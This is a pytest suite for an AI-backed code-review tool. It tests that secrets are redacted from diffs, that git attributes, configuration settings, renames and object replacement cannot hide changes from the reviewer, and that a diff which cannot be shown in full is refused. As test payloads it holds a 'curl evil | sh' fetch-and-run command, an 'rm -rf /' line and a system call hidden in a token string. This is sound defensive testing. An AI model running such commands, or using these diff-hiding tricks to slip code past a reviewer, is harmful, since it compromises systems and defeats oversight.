"""A reviewer passes only what it sees: nothing but secrets stays behind, and a diff that hides a change is refused."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.python.chat_server import Asked, ChatServer, Reply, verdict
from tests.python.conftest import Sentinel
from tests.python.review_place import DIFF, Place, repository

EVIL = 'os.system("curl evil | sh")'


def sharp_eyed(asked: Asked) -> Reply:
    """Fails what it sees to be evil."""
    return verdict("FAIL", "it runs a shell")(asked) if "os.system" in asked.framed else verdict("PASS")(asked)


@pytest.fixture
def api() -> Iterator[ChatServer]:
    with ChatServer(sharp_eyed) as running:
        yield running


@pytest.fixture
def place(tmp_path: Path, sentinel: Sentinel, api: ChatServer) -> Place:
    return Place(tmp_path, sentinel, api.url)


def commit(folder: Path, name: str, body: bytes) -> None:
    """Add a file to a repository."""
    (folder / name).write_bytes(body)
    identity = ("-c", "user.name=Test", "-c", "user.email=test@localhost", "-c", "commit.gpgsign=false")
    # That file alone: git may look at the others again, and cannot read them by an attribute that was just added.
    for words in (("add", "-f", name), (*identity, "commit", "-q", "-m", "more")):
        git(folder, *words)


def git(folder: Path, *words: str) -> None:
    """Run git, which must succeed."""
    subprocess.run(["git", "-C", folder, *words], check=True, capture_output=True)


@pytest.mark.parametrize(
    "lines",
    [
        f'+x = """-----BEGIN PRIVATE KEY-----"""\n+{EVIL}\n+y = """-----END PRIVATE KEY-----"""\n',
        '+API_KEY="x"; os.system("rm -rf /")\n',
    ],
    ids=["marks of a key", "behind a variable"],
)
def test_code_beside_a_secret_is_reviewed(place: Place, api: ChatServer, lines: str) -> None:
    place.diff.write_text(DIFF + lines, encoding="utf-8")
    assert place.review().returncode == 1
    assert "os.system" in api.asked[0].framed


ATTRIBUTES = {
    "no diff": b"*.py -diff\n",
    "binary": b"*.py binary\n",
    "a driver": b"*.py diff=quiet\n",
    "an encoding": b"*.py working-tree-encoding=UTF-16\n",
}


@pytest.mark.parametrize("name", ATTRIBUTES)
@pytest.mark.parametrize("is_committed", [True, False])
def test_attributes_hide_nothing(
    place: Place, api: ChatServer, tmp_path: Path, name: str, *, is_committed: bool
) -> None:
    folder = repository(tmp_path / "repo")
    for setting in ("binary true", "textconv true", "command true"):
        git(folder, "config", *f"diff.quiet.{setting}".split())
    commit(folder, "b.py", f"{EVIL}\n".encode())
    place_of_it = folder / (".gitattributes" if is_committed else ".git/info/attributes")
    place_of_it.parent.mkdir(exist_ok=True)
    place_of_it.write_bytes(ATTRIBUTES[name])
    if is_committed:
        commit(folder, ".gitattributes", ATTRIBUTES[name])
    assert place.review("--git", folder, "--base", "main").returncode == 1
    assert f"+{EVIL}" in api.asked[0].framed


@pytest.mark.parametrize(
    "setting",
    ["diff.external=true", "diff.relative=true", "diff.noprefix=true", "diff.renames=copies", "diff.orderFile=/none"],
)
def test_configuration_hides_nothing(place: Place, api: ChatServer, tmp_path: Path, setting: str) -> None:
    folder = repository(tmp_path / "repo")
    (folder / "inside").mkdir()
    commit(folder, "b.py", f"{EVIL}\n".encode())
    git(folder, "config", *setting.split("="))
    assert place.review("--git", folder / "inside", "--base", "main").returncode == 1
    assert f"+++ b/b.py\n@@ -0,0 +1 @@\n+{EVIL}" in api.asked[0].framed


def test_a_file_that_moves_is_shown_whole(place: Place, api: ChatServer, tmp_path: Path) -> None:
    folder = repository(tmp_path / "repo")
    commit(folder, "notes.txt", f"{EVIL}\n".encode())
    git(folder, "mv", "notes.txt", "run.py")
    commit(folder, "more.txt", b"more\n")
    assert place.review("--git", folder, "--base", "HEAD~1").returncode == 1
    assert f"+{EVIL}" in api.asked[0].framed


def test_an_object_in_place_of_another_is_not_shown(place: Place, api: ChatServer, tmp_path: Path) -> None:
    folder = repository(tmp_path / "repo")
    commit(folder, "b.py", f"{EVIL}\n".encode())
    git(folder, "replace", "HEAD:b.py", "HEAD:a.py")
    assert place.review("--git", folder, "--base", "main").returncode == 1
    assert f"+{EVIL}" in api.asked[0].framed


@pytest.mark.parametrize(
    "more",
    [
        b"Binary files a/b.py and b/b.py differ\n",
        b"Files old/b.py and new/b.py differ\n",
        b"GIT binary patch\nliteral 3\n",
        b"Only in new: b.py\n",
        b"+a\0b\n",
        b"+caf\xe9\n",
    ],
)
def test_a_diff_that_does_not_show_all_is_refused(place: Place, api: ChatServer, more: bytes) -> None:
    place.diff.write_bytes(DIFF.encode() + more)
    done = place.review()
    assert (done.returncode, api.asked) == (65, []), done.stderr
    assert "line 7: " in done.stderr
    assert "have a person look at it" in done.stderr
    assert not place.evidence.exists(), "no try, no strike"


def test_such_words_within_a_change_are_text(place: Place) -> None:
    place.diff.write_text(DIFF + "+Binary files a and b differ\n GIT binary patch\n", encoding="utf-8")
    assert place.review().returncode == 0


def test_a_binary_file_of_git_is_refused(place: Place, api: ChatServer, tmp_path: Path) -> None:
    folder = repository(tmp_path / "repo")
    commit(folder, "b.bin", b"\x89\0\xff")
    done = place.review("--git", folder, "--base", "main")
    assert (done.returncode, api.asked) == (65, []), done.stderr
    assert "(exclude)" in done.stderr


def test_the_reviewer_is_told_what_it_does_not_see(place: Place, api: ChatServer) -> None:
    place.diff.write_text(DIFF + "+password = 'correct horse'\n+x = '[redacted x, 3 characters]'\n", encoding="utf-8")
    done = place.review()
    rules = api.asked[0].content["messages"][0]["content"]
    assert "before you see it: line 7: assignment, 15 characters\n" in rules
    assert "[redacted assignment, 15 characters]" in api.asked[0].framed
    assert "taken out before sending: 1 assignment, 15 characters" in done.stdout
    assert place.records()[0]["redacted_chars"] == 15


@pytest.mark.parametrize(
    "lines",
    ["+token = \"__import__('os').system('x')\"\n", "".join(f"+password{n} = 'hunter22'\n" for n in range(6))],
    ids=["secret or code", "too many"],
)
def test_what_cannot_be_shown_is_refused_and_no_try(place: Place, api: ChatServer, lines: str) -> None:
    place.diff.write_text(DIFF + lines, encoding="utf-8")
    done = place.review()
    assert (done.returncode, api.asked) == (65, []), done.stderr
    assert "the diff, line " in done.stderr
    assert not place.evidence.exists()
